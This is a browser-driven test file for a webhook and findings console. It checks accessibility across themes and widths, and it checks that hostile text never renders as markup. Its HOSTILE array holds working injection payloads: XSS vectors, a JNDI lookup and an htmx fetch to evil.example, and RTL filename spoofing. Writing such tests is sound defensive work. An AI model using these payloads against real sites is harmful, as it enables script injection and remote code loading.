// Every page that links lead to, under axe-core in both themes, at 320 px, in forced colours, and with hostile text in
// every field that somebody else writes.

import assert from "node:assert/strict";
import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import { after, before, test } from "node:test";

import { Browser, crawl, kind } from "./browser.mjs";
import { Destination, finding, Host } from "./host.mjs";

const HOSTILE = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `' onfocus='alert(1)' autofocus='`,
  `</title></textarea></style></script><svg onload=alert(1)>`,
  `<a hx-get="https://evil.example" hx-trigger="load">x</a>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `javascript:alert(1)`,
  "${jndi:ldap://evil.example/x}{{7*7}}",
  "\u001b[31mred\u001b[0m \u202egnp.exe \u2066x\u2069",
  "<!channel> <https://evil.example|bank>",
];

let host, browser, good, bad;

before(async () => {
  [host, browser, good, bad] = await Promise.all([Host.start(), Browser.start(), Destination.start(), Destination.start(500)]);
  const webhook = (name, url, more) =>
    host.api("POST", "/webhooks", { name, url, event_types: ["*"], ...more });
  const slack = await webhook("ACME channel", good.url, { format: "slack" });
  for (const text of HOSTILE) {
    await webhook(text, `${good.url}?${encodeURIComponent(text)}`, { headers: { "X-Note": "note" } });
  }
  await webhook("SIEM", bad.url, { format: "cef", retry_count: 0 });
  await host.api("PUT", `/webhooks/${(await webhook("Old channel", good.url)).id}`, { is_active: false });
  const events = HOSTILE.map((text, index) => {
    const event = finding(`F-${index}`, "high", text, {
      target: text, description: text, remediation: text, evidence: text, parameter: text, references: [text], tags: [text], tool: text, url: text,
    });
    return { ...event, engagement: { id: text, name: text, client: text } };
  });
  await host.api("POST", "/events", [...events, finding("F-407", "critical")]);
  // Enough failures that the breaker switches the webhook off.
  await host.until("/webhooks", (all) => all.some(({ name, is_active }) => name === "SIEM" && !is_active));
  await host.until(`/webhooks/${slack.id}`, ({ waiting }) => waiting === 0);
  for (const text of HOSTILE) await host.token(text.slice(0, 100), "ingest");
});

after(async () => {
  await Promise.all([browser.stop(), host.stop(), good.stop(), bad.stop()]);
});

/** Crawls as an admin with these settings of the browser; `visit` is called with the page and each path. */
async function pages(settings, visit) {
  const page = await browser.page(host.origin, settings);
  await page.login(host.admin);
  const kinds = await crawl(page, "/console", (path) => visit(page, path));
  page.quiet();
  await page.close();
  assert.ok(kinds.length >= 8, `few pages are reached: ${kinds}`);
  return kinds;
}

const scheme = (value) => [{ name: "prefers-color-scheme", value }];

for (const theme of ["light", "dark"]) {
  for (const width of [1280, 320]) {
    test(`accessible and within its window: ${theme}, ${width} px`, async () => {
      const faults = [];
      await pages({ width, features: scheme(theme) }, async (page, path) => {
        faults.push(...(await page.violations()).map((violation) => `${path}: ${violation}`));
        if ((await page.overflow()) > 0) faults.push(`${path}: wider than ${width} px`);
        if (process.env.BROWSER_PICTURES) {
          await mkdir(process.env.BROWSER_PICTURES, { recursive: true });
          const name = `${kind(path).slice(1).replaceAll(/[^a-z0-9]+/g, "-")}-${theme}-${width}.png`;
          await page.page.screenshot({ path: join(process.env.BROWSER_PICTURES, name), fullPage: true });
        }
      });
      assert.deepEqual(faults, []);
    });
  }
}

test("accessible with forced colours and reduced motion", async () => {
  const faults = [];
  const page = await browser.page(host.origin, { features: [{ name: "prefers-reduced-motion", value: "reduce" }] });
  const session = await page.page.createCDPSession();
  await session.send("Emulation.setEmulatedMedia", { features: [{ name: "forced-colors", value: "active" }] });
  await page.login(host.admin);
  await crawl(page, "/console", async (path) => {
    faults.push(...(await page.violations()).map((violation) => `${path}: ${violation}`));
  });
  page.quiet();
  await page.close();
  assert.deepEqual(faults, []);
});

test("hostile text becomes no markup and runs nothing, in any page of any role", async () => {
  for (const role of ["admin", "operator", "pentester", "ingest"]) {
    const page = await browser.page(host.origin);
    await page.login(await host.token(`a ${role}`, role));
    await crawl(page, "/console", async (path) => {
      const made = await page.page.$$eval("*", (elements) =>
        elements
          .filter((element) => ["onerror", "onload", "onfocus", "srcdoc", "style", "hx-get"].some((name) => element.hasAttribute(name)))
          .map((element) => element.outerHTML.slice(0, 200)),
      );
      assert.deepEqual(made, [], path);
      const foreign = await page.page.$$eval("a[href]", (anchors) => anchors.map((anchor) => anchor.protocol));
      assert.ok(!foreign.includes("javascript:"), path);
    });
    page.quiet();
    await page.close();
  }
});
